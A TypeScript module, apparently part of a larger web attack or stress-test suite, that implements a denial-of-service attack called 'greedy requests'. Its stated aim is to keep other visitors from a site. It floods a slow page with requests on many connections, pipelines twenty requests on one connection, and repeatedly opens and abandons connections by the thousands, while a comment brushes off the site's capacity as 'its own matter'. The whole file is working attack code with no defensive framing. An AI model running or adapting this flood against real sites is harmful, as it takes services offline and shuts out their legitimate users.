/**
 * As many requests at once as one visitor or one machine can make, for a page that takes the site long: on separate connections,
 * many on one connection, and started and abandoned in turn.
 */
import type { Attack, Target } from "./attack.ts";
import { CONNECTIONS, CROWDED, crowdOut, type Front, frontsOf } from "./crowding.ts";
import { Flood } from "./flood.ts";

/** Pipelined requests on one connection. */
const PIPELINED = 20;
const GIVEN_UP = { small: 1_000, full: 20_000 } as const;

export const greedyRequests: Attack = {
  name: "greedy requests",
  about: "keep others from the site by asking for slow pages by the hundred",
  ...CROWDED,
  async run(target, scale) {
    const examples: string[] = [];
    let attempts = 0;
    // From many addresses these are many visitors, and what the site can serve is its own matter.
    for (const front of (await frontsOf(target)).slice(0, 2)) {
      const one = askSlow(front);
      attempts += await giveUpInTurn(target, front, GIVEN_UP[scale]);
      const send = (n: number) => (n % 2 === 0 ? one : one.repeat(PIPELINED));
      examples.push(...(await crowdOut(target, { scale, front, send, drip: one })));
      attempts += CONNECTIONS[scale];
    }
    return { attempts, through: examples.length, examples: examples.slice(0, 3) };
  },
};

function askSlow({ path, cookie }: Front): string {
  return `GET ${path}/slow HTTP/1.1\r\nHost: a\r\n${cookie}\r\n`;
}

async function giveUpInTurn(target: Target, front: Front, count: number): Promise<number> {
  for (let n = 0; n < count; n += 100) {
    const flood = new Flood({ ...target, from: front.from, send: () => askSlow(front) });
    await flood.open(100);
    flood.end();
  }
  return count;
}
